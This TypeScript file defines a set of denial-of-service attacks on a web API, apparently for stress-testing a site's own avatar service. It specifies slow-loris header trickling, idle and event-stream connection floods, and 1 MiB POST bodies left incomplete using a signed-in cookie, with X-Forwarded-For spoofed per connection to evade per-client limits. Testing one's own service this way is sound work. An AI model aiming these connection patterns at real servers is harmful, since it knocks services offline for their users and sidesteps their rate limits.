/** Connections that consume a server's memory or time; none of them ever reads. */
export interface Attack {
  readonly name: string
  readonly connections: number
  /** The text that the connection with this number sends first. */
  readonly firstText: (number: number) => string
  /** Bytes that each connection sends afterwards. */
  readonly trickle?: { readonly totalBytes: number; readonly bytesPerSecond: number }
}

const BODY_BYTES = 2 ** 20
/** Number of bytes at the end of a body that are never sent. */
const MISSING_BYTES = 16

/**
 * @param host of the site, for which the cookie is valid.
 * @param cookie of a signed-in person: bodies of this size are read from nobody else.
 */
export function attacksOn({ host, cookie }: { host: string; cookie: string }): readonly Attack[] {
  const get =
    (path: string, headers = '') =>
    (number: number) =>
      `GET /api${path} HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${addressOf(number)}\r\n${headers}\r\n`
  const post = (number: number) =>
    `POST /api/favorites/import HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${addressOf(number)}\r\n` +
    `Origin: https://${host}\r\nCookie: ${cookie}\r\nContent-Type: application/json\r\n` +
    `Content-Length: ${BODY_BYTES}\r\n\r\n`
  return [
    {
      name: 'event streams from the first change on',
      connections: 500,
      firstText: get('/avatars/events', 'Last-Event-ID: 0\r\n'),
    },
    {
      name: 'slow-loris: a byte of a header each second',
      connections: 500,
      firstText: () => `GET /api/avatars/search HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `,
      trickle: { totalBytes: BODY_BYTES, bytesPerSecond: 1 },
    },
    { name: 'idle connections', connections: 1000, firstText: () => '' },
    {
      name: `bodies of 1 MiB, all but ${MISSING_BYTES} bytes`,
      connections: 700,
      firstText: post,
      trickle: { totalBytes: BODY_BYTES - MISSING_BYTES, bytesPerSecond: BODY_BYTES / 8 },
    },
    { name: 'VRCX lists of 5,000', connections: 300, firstText: get('/integrations/vrcx?search=-zzzz') },
    { name: 'streams of the whole catalog', connections: 300, firstText: get('/avatars/all.ndjson') },
  ]
}

/** Gives each connection an address of its own, so that only bounds over all clients together apply. */
function addressOf(number: number): string {
  return `10.1.${number >> 8}.${number & 255}`
}
